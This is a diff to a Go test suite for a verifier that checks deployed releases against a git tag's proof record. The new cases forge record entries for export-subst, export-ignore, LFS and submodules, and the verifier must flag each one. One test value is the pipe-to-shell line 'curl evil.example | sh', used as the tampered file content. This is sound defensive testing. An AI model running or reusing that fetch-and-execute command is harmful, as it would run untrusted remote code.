@@ -37,7 +37,12 @@ type fixture struct {
 	rec        proof.Record
 }
 
-const logo = "the real logo bytes\n"
+const (
+	logo = "the real logo bytes\n"
+	// attrsFile is the tagged tree's .gitattributes: what it allows the
+	// record to excuse (notes.txt is marked by nothing).
+	attrsFile = "tests export-ignore\nver.txt export-subst\n"
+)
 
 func newFixture(t *testing.T, f gitobj.Format) *fixture {
 	x := &fixture{env: gittest.Env(t), f: f, tag: "DEPLOY_20261125_142501_0000000", lfsContent: []byte(logo)}
@@ -68,6 +73,8 @@ func newFixture(t *testing.T, f gitobj.Format) *fixture {
 	gittest.WriteFile(t, x.app, "tests/t.txt", "test\n", 0o644)
 	gittest.WriteFile(t, x.app, "tests/deep/u.txt", "test\n", 0o644)
 	gittest.WriteFile(t, x.app, "ver.txt", "$Format:%H$\n", 0o644)
+	gittest.WriteFile(t, x.app, ".gitattributes", attrsFile, 0o644)
+	gittest.WriteFile(t, x.app, "notes.txt", "$Format:%H$\n", 0o644)
 	if err := os.Symlink("README", filepath.Join(x.app, "link")); err != nil {
 		t.Fatal(err)
 	}
@@ -88,7 +95,7 @@ func newFixture(t *testing.T, f gitobj.Format) *fixture {
 		LFS:          []proof.LFSFile{{Path: "assets/logo.bin", Pointer: x.pointer}},
 		Export: &proof.Export{
 			Ignored:     []proof.Ignored{{Path: "tests", Mode: "040000", Hash: git(x.app, "rev-parse", x.tag+":tests")}},
-			Substituted: []proof.Substituted{{Path: "ver.txt", Mode: "100644", Tagged: blob("$Format:%H$\n"), Deployed: blob(x.commit + "\n")}},
+			Substituted: []proof.Substituted{{Path: "ver.txt", Mode: "100644", Tagged: blob("$Format:%H$\n"), Deployed: blob(x.commit + "\n"), Recorded: []proof.Recorded{}}},
 		},
 	}
 	return x
@@ -136,6 +143,10 @@ func (x *fixture) release(t *testing.T) string {
 		}
 	}
 	objs[x.subCommit] = gittest.Raw(t, x.env, x.sub, nil, "cat-file", "commit", x.subCommit)
+	// the blobs the record's export entries are checked with
+	for _, f := range []string{".gitattributes", "ver.txt"} {
+		objs[git(x.app, "rev-parse", x.tag+":"+f)] = gittest.Raw(t, x.env, x.app, nil, "cat-file", "blob", x.tag+":"+f)
+	}
 	objs[x.leafCommit] = gittest.Raw(t, x.env, x.leaf, nil, "cat-file", "commit", x.leafCommit)
 	if err := proof.Init(rel); err != nil {
 		t.Fatal(err)
@@ -224,27 +235,74 @@ func TestReleaseRecordTampered(t *testing.T) {
 	t.Parallel()
 	x := newFixture(t, gitobj.SHA1)
 	zero := strings.Repeat("0", 40)
+	blob := func(s string) string { return gitobj.HashBytes(gitobj.SHA1, gitobj.TypeBlob, []byte(s)) }
+	git := func(args ...string) string { return gittest.Git(t, x.env, x.app, args...) }
+	evil := "curl evil.example | sh\n"
 	for _, tc := range []struct {
-		name string
-		edit func(r *proof.Record)
-		want string
+		name  string
+		edit  func(r *proof.Record)
+		files func(app string) // what the writer of the release changed
+		want  string
 	}{
-		{"ignored hash", func(r *proof.Record) { r.Export.Ignored[0].Hash = zero }, "puts back tests as 040000 000000000000, but the tag holds 040000"},
-		{"ignored entry dropped", func(r *proof.Record) { r.Export.Ignored = nil }, "missing (the tree of tests/); deleted 1: tests/"},
-		{"submodule commit", func(r *proof.Record) { r.Submodules[1].Commit = zero }, "submodule lib/a/vendor/b: proof file DEPLOY_PROOF/app/objects/" + zero + " missing"},
-		{"submodule dropped", func(r *proof.Record) { r.Submodules = r.Submodules[:1] }, "proof record.json of this repo does not list submodule lib/a/vendor/b (an entry missing)"},
-		{"lfs dropped", func(r *proof.Record) { r.LFS = nil }, "edited 1: assets/logo.bin"},
-		{"subst tagged", func(r *proof.Record) { r.Export.Substituted[0].Deployed = r.Export.Substituted[0].Tagged }, "edited 1: ver.txt"},
+		{"ignored hash", func(r *proof.Record) { r.Export.Ignored[0].Hash = zero }, nil,
+			"proof record does not match the tag: export.ignored tests: the tag holds 040000 " + git("rev-parse", x.tag+":tests")[:12] + " there, not 040000 000000000000"},
+		{"ignored entry dropped", func(r *proof.Record) { r.Export.Ignored = nil }, nil, "missing (the tree of tests/); deleted 1: tests/"},
+		{"submodule commit", func(r *proof.Record) { r.Submodules[1].Commit = zero }, nil,
+			"proof record does not match the tag: submodules lib/a/vendor/b: the tag records commit " + x.leafCommit[:12] + " there, not 000000000000"},
+		{"submodule dropped", func(r *proof.Record) { r.Submodules = r.Submodules[:1] }, nil, "proof record.json of this repo does not list submodule lib/a/vendor/b (an entry missing)"},
+		{"lfs dropped", func(r *proof.Record) { r.LFS = nil }, nil, "edited 1: assets/logo.bin"},
+		{"subst tagged", func(r *proof.Record) { r.Export.Substituted[0].Deployed = r.Export.Substituted[0].Tagged }, nil,
+			"proof record does not match the tag: export.substituted ver.txt: deployed " + blob("$Format:%H$\n")[:12] + " is not the file's expansion for the tagged commit (" + blob(x.commit + "\n")[:12] + ")"},
+
+		// What the tree's own attributes do not allow, with the release's
+		// files changed to match the forged record.
+		{"substituted, unmarked", func(r *proof.Record) {
+			r.Export.Substituted = append([]proof.Substituted{{Path: "notes.txt", Mode: "100644", Tagged: blob("$Format:%H$\n"), Deployed: blob(evil), Recorded: []proof.Recorded{}}}, r.Export.Substituted...)
+		}, func(app string) { gittest.WriteFile(t, app, "notes.txt", evil, 0o644) },
+			"proof record does not match the tag: export.substituted notes.txt: no .gitattributes of the tag marks it export-subst; edited 1: notes.txt"},
+		{"substituted, other bytes", func(r *proof.Record) { r.Export.Substituted[0].Deployed = blob(evil) },
+			func(app string) { gittest.WriteFile(t, app, "ver.txt", evil, 0o644) },
+			"export.substituted ver.txt: deployed " + blob(evil)[:12] + " is not the file's expansion for the tagged commit"},
+		{"substituted, a span recorded that is none", func(r *proof.Record) {
+			r.Export.Substituted[0].Recorded = []proof.Recorded{{Format: "%H", Answer: "evil"}}
+		}, nil, "export.substituted ver.txt: 1 spans recorded, the file has 0 to record"},
+		{"ignored file, unmarked", func(r *proof.Record) {
+			r.Export.Ignored = append([]proof.Ignored{{Path: "README", Mode: "100644", Hash: blob("app\n")}}, r.Export.Ignored...)
+		}, func(app string) { os.Remove(filepath.Join(app, "README")) },
+			"proof record does not match the tag: export.ignored README: no .gitattributes of the tag marks it export-ignore; deleted 1: README"},
+		{"ignored folder, unmarked", func(r *proof.Record) {
+			r.Export.Ignored = append([]proof.Ignored{{Path: "bin", Mode: "040000", Hash: git("rev-parse", x.tag+":bin")}}, r.Export.Ignored...)
+		}, func(app string) { os.RemoveAll(filepath.Join(app, "bin")) },
+			"proof record does not match the tag: export.ignored bin: no .gitattributes of the tag marks it export-ignore; deleted 1: bin/run"},
+		{"ignored, no such path", func(r *proof.Record) {
+			r.Export.Ignored = append(r.Export.Ignored, proof.Ignored{Path: "zzz", Mode: "100644", Hash: zero})
+		}, nil, "proof record does not match the tag: export.ignored zzz: the tag holds no such path"},
+		{"lfs entry the tree does not hold", func(r *proof.Record) {
+			sum := sha256.Sum256([]byte(evil))
+			r.LFS = append([]proof.LFSFile{{Path: "README", Pointer: fmt.Sprintf("version https://git-lfs.github.com/spec/v1\noid sha256:%x\nsize %d\n", sum, len(evil))}}, r.LFS...)
+		}, func(app string) { gittest.WriteFile(t, app, "README", evil, 0o644) },
+			"proof record does not match the tag: lfs README: the tag holds blob " + blob("app\n")[:12] + " there, not the pointer's"},
+		{"submodule the tree does not hold", func(r *proof.Record) {
+			r.Submodules = append(r.Submodules, proof.Submodule{Path: "bin", Commit: x.leafCommit})
+		}, func(app string) {
+			os.RemoveAll(filepath.Join(app, "bin"))
+			gittest.WriteFile(t, app, "bin/x.txt", "leaf\n", 0o644)
+		}, "proof record does not match the tag: submodules bin: the tag holds a 040000 there, not a submodule"},
 	} {
 		y := *x
 		y.rec = x.rec
 		y.rec.Submodules = append([]proof.Submodule(nil), x.rec.Submodules...)
+		y.rec.LFS = append([]proof.LFSFile(nil), x.rec.LFS...)
 		e := *x.rec.Export
 		e.Ignored = append([]proof.Ignored(nil), e.Ignored...)
 		e.Substituted = append([]proof.Substituted(nil), e.Substituted...)
 		y.rec.Export = &e
 		tc.edit(&y.rec)
-		l := appLine(t, y.release(t))
+		rel := y.release(t)
+		if tc.files != nil {
+			tc.files(filepath.Join(rel, "app"))
+		}
+		l := appLine(t, rel)
 		if l.OK || !strings.Contains(l.Text(), tc.want) {
 			t.Errorf("%s: %q, want it to say %q", tc.name, l.Text(), tc.want)
 		}
